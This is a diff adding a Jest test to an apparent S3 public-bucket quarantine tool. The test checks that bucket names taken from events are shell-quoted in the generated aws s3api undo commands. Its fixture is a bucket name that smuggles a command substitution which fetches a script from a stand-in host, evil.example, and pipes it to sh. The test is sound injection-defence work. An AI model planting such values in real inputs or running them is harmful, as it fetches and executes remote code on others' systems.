@@ -229,6 +229,25 @@ describe('quarantine-public-bucket safety rules', () => {
     expect(result.targets[0]?.steps.map((s) => s.kind)).toEqual(['savePriorState', 'blockPublicAccess', 'removePublicAclGrants', 'removePublicPolicyStatements', 'tagQuarantined']);
     expect(writesTo(mock)).toEqual([]);
   });
+
+  it('shell-quotes a bucket name from the event in every undo command', async () => {
+    // Prepare
+    const hostile = "ml-data$(curl -s https://evil.example/x|sh)'";
+    fakeS3({ [hostile]: publicBucket() });
+    const event = loadEvent('config/s3-bucket-public-read-prohibited-noncompliant.json');
+    event.detail.resourceId = hostile;
+
+    // Act
+    const result = await dryRun(event);
+
+    // Assess
+    const quoted = `'ml-data$(curl -s https://evil.example/x|sh)'\\'''`;
+    expect(result.targets[0]?.steps.flatMap((s) => (s.undo?.includes('aws s3api') ? [s.undo] : []))).toEqual([
+      `aws s3api delete-public-access-block --bucket ${quoted}`,
+      `restore the "acl" saved with the prior state: aws s3api put-bucket-acl --bucket ${quoted} --access-control-policy file://acl.json`,
+      `restore the "policy" saved with the prior state: aws s3api put-bucket-policy --bucket ${quoted} --policy file://policy.json`,
+    ]);
+  });
 });
 
 describe('quarantine-public-bucket policies and ACLs', () => {
